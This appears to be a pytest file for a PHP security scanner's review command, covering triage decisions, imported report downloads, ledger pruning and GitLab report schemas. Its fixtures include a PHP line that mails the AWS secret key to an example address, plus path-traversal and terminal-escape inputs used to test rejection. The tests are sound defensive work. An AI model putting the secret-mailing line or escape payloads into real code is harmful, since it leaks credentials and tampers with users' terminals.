"""`review`: answers typed, decisions written; downloads of the HTML report; list and prune."""

from __future__ import annotations

import io
import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import jsonschema  # type: ignore[import-untyped]  # no stubs among the requirements
import msgspec
import pytest

from scanner.cli import run
from scanner.commands.review import _inputs
from scanner.model.decision import Verdict
from scanner.model.report import Comparison, Coverage
from scanner.report.base import ReportView, formats
from scanner.triage.ledger import load_ledger
from tests.report.sample import CALL_AFTER, COMPARISON, GONE, PAGE, STOLEN

ADA, BEA = "Ada <ada@example.org>", "Bea <bea@example.org>"
HASH = {"1111aaaa": "e1e1e1e1", "2222bbbb": "e3e3e3e3", "3333cccc": "e4e4e4e4"}


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a JSON report; three findings of it are high or worse."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "report.json").write_text(formats()["json"].render(ReportView(content=comparison())))
    return tmp_path


def comparison(*, complete: bool = True) -> Comparison:
    """The sample with hashes as they really are."""
    changes = tuple(
        msgspec.structs.replace(change, current=msgspec.structs.replace(current, evidence=HASH[current.identity]))
        if (current := change.current) is not None and current.identity in HASH
        else change
        for change in COMPARISON.changes
    )
    coverage = Coverage(files=1, php_files=1, parsed=1)
    report = msgspec.structs.replace(COMPARISON.current, coverage=coverage) if complete else COMPARISON.current
    return msgspec.structs.replace(COMPARISON, changes=changes, current=report)


def review(monkeypatch: pytest.MonkeyPatch, typed: str, *options: str, who: str = ADA) -> int:
    monkeypatch.setattr("sys.stdin", io.StringIO(typed))
    return run(["review", "--report", "report.json", "--reviewer", who, *options])


def decided(folder: Path) -> dict[str, tuple[str, str]]:
    decisions = load_ledger(folder / "redcap-review.yaml").decisions
    return {item.identity: (item.verdict.value, item.reason) for item in decisions}


def test_answers_become_decisions_and_the_next_run_goes_on(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert review(monkeypatch, "s\na\nknown\nq\n") == 1
    assert list(decided(folder).values()) == [("accept", "known")]
    assert review(monkeypatch, "f\nnot so\ne\na feature\n") == 0
    assert set(decided(folder)) == {STOLEN.identity, CALL_AFTER.identity, PAGE.identity}
    assert review(monkeypatch, "") == 0  # nothing is left


def test_a_decision_needs_a_reason_and_a_note_is_one(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert review(monkeypatch, "a\n\na\n  \nq\n") == 1
    assert decided(folder) == {}
    review(monkeypatch, "n\nticket 7:\na\nseen\nq\n")
    assert list(decided(folder).values()) == [("accept", "ticket 7: seen")]


def test_undo_takes_back_and_asks_again(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert review(monkeypatch, "u\na\none\nm\ntwo\nu\nu\nf\nthree\nq\n") == 1
    assert decided(folder) == {STOLEN.identity: ("false-positive", "three")}


def test_must_fix_is_written_and_still_fails(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert review(monkeypatch, "m\ngo\na\nx\na\ny\n") == 1
    assert review(monkeypatch, "") == 1  # nobody is asked again, and it still has to go
    assert decided(folder)[STOLEN.identity] == ("must-fix", "go")


def test_the_end_of_the_input_loses_nothing(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert review(monkeypatch, "a\nknown\n") == 1
    assert len(decided(folder)) == 1


def test_code_trace_and_both_sides_are_shown(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert (folder / "report.json").is_file()
    review(monkeypatch, "s\nt\ns\ns\n")
    out = capsys.readouterr().out
    assert "curl_setopt($ch, CURLOPT_POSTFIELDS, $body);" in out
    assert "stored in $GLOBALS['password']" in out
    assert "was  line 40" in out
    assert "\x1b" not in out


def test_the_code_around_is_shown_when_the_releases_are_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "page.php").write_text(
        "<?php\n$first = 1;\nmail('a@example.org', 'x', getenv('AWS_SECRET_ACCESS_KEY'));\n"
    )
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.stdin", io.StringIO("t\nq\n"))
    assert run(["review", ".", "--reviewer", ADA, "--least", "info", "--no-cache", "--jobs", "1"]) == 1
    brief, _, whole = capsys.readouterr().out.partition("Decide")
    assert "$first = 1;" not in brief
    assert "$first = 1;" in whole


def test_a_day_that_has_passed_is_no_day_to_review_by(
    folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert review(monkeypatch, "a\nknown\n", "--review-by", "2020-01-01") == 2
    assert "has passed" in capsys.readouterr().err
    assert not (folder / "redcap-review.yaml").exists()


def test_nobody_reviews_without_a_name(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert (folder / "report.json").is_file()
    monkeypatch.setattr(_inputs, "configured_person", lambda _folder: "")
    assert run(["review", "--report", "report.json"]) == 2
    monkeypatch.setattr(_inputs, "configured_person", lambda _folder: BEA)
    monkeypatch.setattr("sys.stdin", io.StringIO("a\nx\n"))
    run(["review", "--report", "report.json"])
    assert load_ledger(folder / "redcap-review.yaml").decisions[0].reviewer == BEA


def test_two_people_when_the_policy_asks_for_two(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (folder / "redcap-scanner.toml").write_text("reviewers = 2\n")
    review(monkeypatch, "a\nx\na\ny\na\nz\n")
    assert review(monkeypatch, "") == 0  # Ada has said what she has to say
    assert review(monkeypatch, "a\nagreed\nf\nno, it is not\ns\n", who=BEA) == 1
    people = {(item.reviewer, item.second_reviewer) for item in load_ledger(folder / "redcap-review.yaml").decisions}
    assert people == {(ADA, BEA), (BEA, ""), (ADA, "")}


def download(folder: Path, *decisions: dict[str, Any], schema: str = "redcap-review-download/1") -> str:
    path = folder / "download.json"
    path.write_text(json.dumps({"schema": schema, "decisions": list(decisions)}))
    return str(path)


def choice(identity: str, **fields: str) -> dict[str, str]:
    return {
        "identity": identity,
        "evidence": HASH.get(identity, "0" * 8),
        "rule": "x",
        "path": "y",
        "symbol": "z",
        "verdict": "accept",
        "reason": "known",
        **fields,
    }


def test_a_download_is_written_after_one_question(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = download(folder, choice(STOLEN.identity), choice(PAGE.identity, verdict="must-fix"))
    assert review(monkeypatch, "n\n", "--html", path) == 1
    assert decided(folder) == {}
    assert review(monkeypatch, "y\n", "--html", path) == 0
    decisions = {item.identity: item for item in load_ledger(folder / "redcap-review.yaml").decisions}
    assert decisions[STOLEN.identity].path == STOLEN.path  # from the report, not from the download
    assert decisions[PAGE.identity].verdict is Verdict.MUST_FIX


@pytest.mark.parametrize("identity", ["0000aaaa", STOLEN.identity])
def test_a_download_about_no_finding_of_the_report_is_left_out(
    folder: Path, identity: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = download(folder, choice(identity, evidence="00000000"), choice(PAGE.identity))
    assert review(monkeypatch, "", "--html", path, "--yes") == 1
    assert set(decided(folder)) == {PAGE.identity}
    assert "1 left out" in capsys.readouterr().out


@pytest.mark.parametrize(
    "decisions",
    [
        [choice("../../x")],
        [choice("1111aaaa", verdict="ignore")],
        [choice("1111aaaa", reason="  ")],
        [choice("1111aaaa", reason="x" * 3000)],
        [choice("1111aaaa"), choice("1111aaaa")],
        ["text"],
    ],
    ids=["hash", "verdict", "blank", "long", "twice", "type"],
)
def test_a_hostile_download_is_one_error_and_writes_nothing(
    folder: Path, decisions: Sequence[Any], capsys: pytest.CaptureFixture[str]
) -> None:
    path = download(folder, *decisions)
    assert run(["review", "--html", path, "--yes", "--reviewer", ADA]) == 2
    assert capsys.readouterr().err.count("\n") == 1
    assert not (folder / "redcap-review.yaml").exists()


def test_text_of_a_download_is_harmless_on_screen_and_on_disk(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hostile = choice("1111aaaa", reason="a\x1b[2J\n- {identity: x}\u202e", path="\x1b]0;x")
    assert run(["review", "--html", download(folder, hostile), "--yes", "--reviewer", ADA]) == 0
    assert "\x1b" not in capsys.readouterr().out
    (decision,) = load_ledger(folder / "redcap-review.yaml").decisions
    assert decision.reason == "a\x1b[2J - {identity: x}\u202e"
    assert "\x1b" not in (folder / "redcap-review.yaml").read_text()


def listed(capsys: pytest.CaptureFixture[str], *options: str) -> list[str]:
    assert run(["review", "list", *options]) == 0
    return [line.split()[0] for line in capsys.readouterr().out.splitlines() if not line.startswith(" ")]


def test_list_and_prune(folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    path = download(folder, choice(STOLEN.identity), choice(GONE.identity), choice("99990000"))
    assert run(["review", "--html", path, "--yes", "--reviewer", ADA, "--review-by", "2999-12-31"]) == 0
    ledger = folder / "redcap-review.yaml"
    ledger.write_text(ledger.read_text().replace("2999-12-31", "2020-01-01"))  # as time passes
    review(monkeypatch, "s\na\nx\nq\n")
    capsys.readouterr()
    assert len(listed(capsys)) == 4
    assert sorted(listed(capsys, "--expired")) == sorted([STOLEN.identity, GONE.identity, "99990000"])
    assert sorted(listed(capsys, "--stale", "--report", "report.json")) == sorted([GONE.identity, "99990000"])
    assert run(["review", "list", "--stale"]) == 2
    assert run(["review", "prune", "--report", "report.json", "--dry-run"]) == 0
    assert len(decided(folder)) == 4
    incomplete = formats()["json"].render(ReportView(content=comparison(complete=False)))
    (folder / "incomplete.json").write_text(incomplete)
    assert run(["review", "prune", "--report", "incomplete.json"]) == 3
    assert len(decided(folder)) == 4
    assert run(["review", "prune", "--report", "report.json"]) == 0
    assert GONE.identity not in decided(folder)
    assert len(decided(folder)) == 2


SAST = {
    "type": "object",
    "required": ["version", "scan", "vulnerabilities"],
    "properties": {
        "version": {"pattern": r"^\d+\.\d+\.\d+$"},
        "scan": {
            "required": ["analyzer", "end_time", "scanner", "start_time", "status", "type"],
            "properties": {
                "analyzer": {"required": ["id", "name", "version", "vendor"]},
                "scanner": {"required": ["id", "name", "version", "vendor"]},
                "start_time": {"pattern": r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}$"},
                "end_time": {"pattern": r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}$"},
                "status": {"enum": ["success", "failure"]},
                "type": {"const": "sast"},
            },
        },
        "vulnerabilities": {
            "items": {
                "required": ["id", "identifiers", "location"],
                "properties": {
                    "id": {"type": "string", "minLength": 1},
                    "name": {"type": "string", "maxLength": 255},
                    "severity": {"enum": ["Info", "Unknown", "Low", "Medium", "High", "Critical"]},
                    "identifiers": {
                        "minItems": 1,
                        "items": {
                            "required": ["type", "name", "value"],
                            "properties": {
                                name: {"type": "string", "minLength": 1} for name in ("type", "name", "value")
                            },
                        },
                    },
                    "location": {
                        "properties": {"file": {"type": "string"}, "start_line": {"type": "integer", "minimum": 1}}
                    },
                },
            }
        },
    },
}
"""What GitLab's published schema 15.2.1 asks of the parts that are written."""
QUALITY = {
    "type": "array",
    "items": {
        "required": ["description", "check_name", "fingerprint", "severity", "location"],
        "properties": {
            "severity": {"enum": ["info", "minor", "major", "critical", "blocker"]},
            "location": {
                "required": ["path", "lines"],
                "properties": {"path": {"pattern": "^[^.]"}, "lines": {"required": ["begin"]}},
            },
        },
    },
}


@pytest.mark.parametrize(("name", "schema"), [("gitlab-sast", SAST), ("gitlab-codequality", QUALITY)])
def test_gitlab_gets_what_it_reads_and_only_what_is_open(name: str, schema: dict[str, Any]) -> None:
    document = json.loads(
        formats()[name].render(ReportView(content=comparison(), located={STOLEN.path: "in/repo.php"}))
    )
    jsonschema.validate(document, schema)
    rows = document if isinstance(document, list) else document["vulnerabilities"]
    counted = [change for change in comparison().changes if change.state.value in ("new", "updated")]
    assert len(rows) == len(counted)
    assert "in/repo.php" in json.dumps(rows)
    assert GONE.message not in json.dumps(rows)
